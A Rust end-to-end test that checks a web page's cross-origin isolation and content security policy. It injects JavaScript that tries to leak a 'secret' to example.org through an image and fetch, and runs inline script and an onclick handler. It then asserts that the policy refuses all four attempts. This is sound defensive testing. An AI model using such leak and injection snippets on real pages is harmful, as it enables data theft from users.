//! The page is isolated and guarded: what the policy forbids does not happen, however it is tried.

use e2e::{Site, StageError, story};

use crate::steps;

#[test]
fn the_page_is_isolated_and_cannot_call_out() -> Result<(), StageError> {
    story("headers", Site::built(), |_, page| {
        page.open("/")?;
        page.wait_for_state("#output", &["empty"], steps::TO_REACT)?;
        assert!(page.run("return crossOriginIsolated", Vec::new())? == true);
        steps::assert_no_complaints(page)?;

        let script = "
            globalThis.ran = [];
            const image = new Image();
            image.src = 'https://example.org/leak.png?secret';
            fetch('https://example.org/leak').catch(() => {});
            const inline = document.createElement('script');
            inline.textContent = 'ran.push(\"inline\")';
            document.body.append(inline);
            const handler = document.createElement('p');
            handler.setAttribute('onclick', 'ran.push(\"handler\")');
            document.body.append(handler);
            handler.click();";
        page.run(script, Vec::new())?;
        let refused = page.wait("four refusals", steps::TO_REACT, |page| {
            Ok(Some(page.refused_by_policy()?).filter(|refused| refused.len() >= 4))
        })?;
        for directive in ["img-src", "connect-src", "script-src-elem", "script-src-attr"] {
            assert!(refused.iter().any(|line| line.starts_with(directive)), "{directive} is missing in {refused:?}");
        }
        assert_eq!(page.run("return ran", Vec::new())?, serde_json::json!([]));
        Ok(())
    })
}
